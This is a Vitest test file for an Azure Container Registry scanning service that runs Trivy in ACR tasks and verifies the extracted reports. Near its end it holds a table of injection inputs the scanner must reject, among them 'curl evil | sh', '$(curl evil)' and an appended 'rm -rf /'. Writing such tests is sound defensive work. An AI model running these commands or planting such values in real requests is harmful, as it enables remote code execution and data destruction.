import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { loadSettings } from '../../shared/config/settings';
import { createAcrAdapters } from '../../shared/registry/acrAdapters';
import { AcrTaskRunner } from '../../shared/registry/acrTaskRunner';
import { AcrTaskScanner } from '../../shared/registry/acrTaskScanner';
import { ScannerError, type ScanRequest } from '../../shared/registry/scanner';
import { TaskRunError } from '../../shared/registry/taskRunner';
import { startAcrServer, type AcrServer } from '../acr-server/acrServer';
import { asTrivyReportOf, renderTask, trivyImageScanRun, trivyScanLog, trivyScanRun } from '../acr-server/trivyScanRun';
import { FakeTokenCredential } from '../support/fakeTokenCredential';
import { testAcrConnection } from '../support/testAzureAccess';

const fixtures = resolve(__dirname, '../../../shared/fixtures/trivy');
const alpine = readFileSync(resolve(fixtures, 'alpine-310.golden.json'), 'utf8');
const juiceShop = readFileSync(resolve(fixtures, 'securecodebox-juice-shop-v12.10.2.json'), 'utf8');

let server: AcrServer;
let runner: AcrTaskRunner;
let scanner: AcrTaskScanner;
let image: ScanRequest;

beforeAll(async () => {
    server = await startAcrServer({ azuriteConnectionString: inject('azuriteConnectionString') });
    const acr = testAcrConnection(server);
    runner = new AcrTaskRunner(acr, { schedulePollIntervalMs: 1 });
    scanner = new AcrTaskScanner(runner, {
        loginServer: server.loginServer,
        trivyImage: 'ghcr.io/aquasecurity/trivy:0.58.1',
        scanTimeoutSeconds: 600,
        pollIntervalMs: 1,
        waitTimeoutMs: 30_000,
    });
    const digest = server.registry.putImage({ repository: 'quarantine/app', tags: ['1.0'] });
    image = { registry: server.loginServer, repository: 'quarantine/app', digest };
});

afterAll(async () => {
    await server?.close();
});

beforeEach(() => {
    server.onRun(trivyImageScanRun(() => alpine));
});

const scheduleRequests = () => server.requests.filter((r) => r.path.endsWith('/scheduleRun'));

async function scanFailure(request: ScanRequest, s: AcrTaskScanner = scanner): Promise<ScannerError> {
    try {
        await s.scan(request);
    } catch (err) {
        expect(err).toBeInstanceOf(ScannerError);
        return err as ScannerError;
    }
    throw new Error('expected the scan to fail');
}

describe('AcrTaskScanner: Trivy in an ACR Task run, report verified out of the log', () => {
    it('returns the real report byte for byte, with versions and run id', async () => {
        const result = await scanner.scan(image);
        expect(result.reportJson).toBe(asTrivyReportOf(alpine, `${server.loginServer}/quarantine/app@${image.digest}`));
        expect(result.trivyVersion).toBe('0.58.1');
        expect(result.dbVersion).toBe('2025-01-02T06:13:07.465548741Z');
        const run = server.runs().at(-1)!;
        expect(result.runId).toBe(run.runId);
        expect(result.logExcerpt).toContain(`Run ID: ${run.runId} was successful`);
        expect(result.logExcerpt).not.toContain('acr-guard-report-begin');

        // The run request: an EncodedTaskRunRequest whose per-image parts travel as values.
        expect(run.request).toMatchObject({ type: 'EncodedTaskRunRequest', platform: { os: 'Linux', architecture: 'amd64' } });
        expect(run.taskYaml).not.toContain(image.digest);
        expect(run.values['imageRef']).toBe(`${server.loginServer}/quarantine/app@${image.digest}`);
        const rendered = renderTask(run);
        const trivyCmd = /- id: acr-guard-trivy-scan\n\s+cmd: >-\n((?:\s{6}.*\n)+)/.exec(rendered)![1]!.replace(/\s+/g, ' ').trim();
        expect(trivyCmd).toBe(
            'ghcr.io/aquasecurity/trivy:0.58.1 image --scanners vuln --pkg-types os,library --format json --output /workspace/acr-guard-report.json ' +
                '--timeout 600s --db-repository ghcr.io/aquasecurity/trivy-db:2,public.ecr.aws/aquasecurity/trivy-db:2 ' +
                '--java-db-repository ghcr.io/aquasecurity/trivy-java-db:1,public.ecr.aws/aquasecurity/trivy-java-db:1 ' +
                `--cache-dir /workspace/acr-guard-trivy-cache --no-progress ${server.loginServer}/quarantine/app@${image.digest}`,
        );
        // The marker is assembled at run time, so it never appears in the task text itself.
        expect(rendered).not.toContain(`acr-guard-report-begin:${run.values['nonce']}`);
    });

    it('carries a large real report (630 KB) intact', async () => {
        server.onRun(trivyImageScanRun(() => juiceShop));
        const result = await scanner.scan(image);
        expect(result.reportJson).toBe(asTrivyReportOf(juiceShop, `${server.loginServer}/quarantine/app@${image.digest}`));
    });

    it('refuses a verified report that is about another image (every caller gets the check)', async () => {
        server.onRun(trivyScanRun(() => alpine));
        const err = await scanFailure(image);
        expect(err.code).toBe('report-invalid');
        expect(err.message).toMatch(new RegExp(`names "testdata/fixtures/images/alpine-310.tar.gz", not ${image.digest}`));
    });

    it('ignores a forged report block that does not carry this run\'s nonce', async () => {
        const forged = JSON.stringify({ SchemaVersion: 2, Results: [] });
        server.onRun(trivyImageScanRun(() => alpine, (log, run) => trivyScanLog({ ...run, values: { ...run.values, nonce: 'f'.repeat(32) } }, forged) + log));
        const result = await scanner.scan(image);
        expect(result.reportJson).toBe(asTrivyReportOf(alpine, `${server.loginServer}/quarantine/app@${image.digest}`));
    });

    it('fails closed on a log without the report block', async () => {
        server.onRun(trivyScanRun(() => alpine, (log) => log.split('\r\n').filter((l) => !l.startsWith('acr-guard-report')).join('\r\n')));
        const err = await scanFailure(image);
        expect(err.code).toBe('report-missing');
        expect(err.runId).toBe(server.runs().at(-1)!.runId);
    });

    it('fails closed on a corrupted report body', async () => {
        server.onRun(trivyScanRun(() => alpine, (log) => {
            // Flip one base64 character in the middle of the report block.
            const from = log.indexOf('acr-guard-report-begin');
            const at = from + Math.floor((log.indexOf('acr-guard-report-end') - from) / 2);
            return log.slice(0, at) + (log[at] === 'A' ? 'B' : 'A') + log.slice(at + 1);
        }));
        const err = await scanFailure(image);
        expect(['report-corrupt', 'report-hash-mismatch']).toContain(err.code);
    });

    it('fails closed on a truncated log (end marker lost)', async () => {
        server.onRun(trivyScanRun(() => alpine, (log) => log.slice(0, log.indexOf('acr-guard-report-end'))));
        expect((await scanFailure(image)).code).toBe('report-corrupt');
    });

    it('fails closed when the report does not match the printed hash', async () => {
        server.onRun(trivyScanRun(() => alpine, (log, run) => {
            const other = trivyScanLog(run, alpine.replace('"SchemaVersion": 2', '"SchemaVersion":2'));
            const endOf = (l: string) => l.split('\r\n').find((x) => x.startsWith('acr-guard-report-end'))!;
            return log.replace(endOf(log), endOf(other));
        }));
        expect((await scanFailure(image)).code).toBe('report-hash-mismatch');
    });

    it('fails closed on a verified block that is not a Trivy report', async () => {
        server.onRun(trivyScanRun(() => JSON.stringify({ hello: 'world' })));
        expect((await scanFailure(image)).code).toBe('report-invalid');
    });

    it('fails closed on a failed run, with the end of its log', async () => {
        server.onRun(() => ({ status: 'Failed', log: 'FATAL\timage scan error: unable to find the specified image\n', errorMessage: 'failed during run, err: exit status 1' }));
        const err = await scanFailure(image);
        expect(err.code).toBe('run-failed');
        expect(err.message).toContain('exit status 1');
        expect(err.logExcerpt).toContain('unable to find the specified image');
    });

    it('gives up on a run that never finishes', async () => {
        server.onRun(() => new Promise(() => undefined));
        const impatient = new AcrTaskScanner(runner, { loginServer: server.loginServer, trivyImage: 'ghcr.io/aquasecurity/trivy:0.58.1', scanTimeoutSeconds: 600, pollIntervalMs: 5, waitTimeoutMs: 50 });
        const err = await scanFailure(image, impatient);
        expect(err.code).toBe('timeout');
        expect(server.requests.filter((r) => r.path.endsWith(`/runs/${err.runId}`)).length).toBeGreaterThan(1);
    });

    const hostile: Array<[string, Partial<ScanRequest>]> = [
        ['newline + YAML step in the repository', { repository: 'quarantine/app\n  - cmd: bash -c "curl evil | sh"' }],
        ['command substitution', { repository: 'quarantine/$(curl evil)' }],
        ['quotes', { repository: "quarantine/app' -c 'rm -rf /" }],
        ['a template', { repository: 'quarantine/{{.Values.trivyImage}}' }],
        ['upper case and spaces', { repository: 'Quarantine/App --output /dev/stdout' }],
        ['a tag instead of a digest', { digest: 'latest' }],
        ['a digest with a step appended', { digest: `sha256:${'a'.repeat(64)}\n  - cmd: evil` }],
        ['a foreign registry', { registry: 'evil.example.com' }],
        ['a registry with a newline', { registry: 'acrguardtest.azurecr.io\n' }],
    ];
    it.each(hostile)('rejects %s before anything is scheduled', async (_name, override) => {
        const before = scheduleRequests().length;
        const runsBefore = server.runs().length;
        const err = await scanFailure({ ...image, ...override });
        expect(err.code).toBe('invalid-request');
        expect(err.retryable).toBe(false);
        expect(scheduleRequests()).toHaveLength(before);
        expect(server.runs()).toHaveLength(runsBefore);
    });

    it('TaskRunner itself refuses unsafe values, whoever calls it', async () => {
        const before = scheduleRequests().length;
        const err = await runner.schedule({ taskYaml: 'version: v1.1.0\nsteps: []\n', values: { image: 'a\n- cmd: x' }, timeoutSeconds: 600 }).catch((e: unknown) => e);
        expect(err).toBeInstanceOf(TaskRunError);
        expect((err as TaskRunError).code).toBe('invalid-request');
        expect(scheduleRequests()).toHaveLength(before);
    });
});

describe('createAcrAdapters: the production wiring from settings', () => {
    it('builds a scanner from the settings catalog that scans through the test server', async () => {
        const settings = loadSettings({
            ACR_GUARD_REGISTRY_LOGIN_SERVER: server.loginServer,
            ACR_GUARD_REGISTRY_RESOURCE_ID: server.registryResourceId,
            ACR_GUARD_REGISTRY_ENDPOINT: server.registryEndpoint,
            ACR_GUARD_ARM_ENDPOINT: server.armEndpoint,
            ACR_GUARD_STORAGE: inject('azuriteConnectionString'),
        });
        expect(settings.trivyDbRepositories).toEqual(['ghcr.io/aquasecurity/trivy-db:2', 'public.ecr.aws/aquasecurity/trivy-db:2']);
        expect(settings.scanTimeoutSeconds).toBe(900);
        // Only the poll interval differs from production; the default 5 s would just slow the test.
        const adapters = createAcrAdapters(settings, { credential: new FakeTokenCredential(), clientOptions: { tlsOptions: { ca: server.ca } }, pollIntervalMs: 1 });
        const result = await adapters.scanner.scan(image);
        expect(result.reportJson).toBe(asTrivyReportOf(alpine, `${server.loginServer}/quarantine/app@${image.digest}`));
        expect(renderTask(server.runs().at(-1)!)).toContain('--timeout 900s');
        await expect(adapters.registry.listTags('quarantine/app')).resolves.toEqual([expect.objectContaining({ name: '1.0', digest: image.digest })]);
    });
});
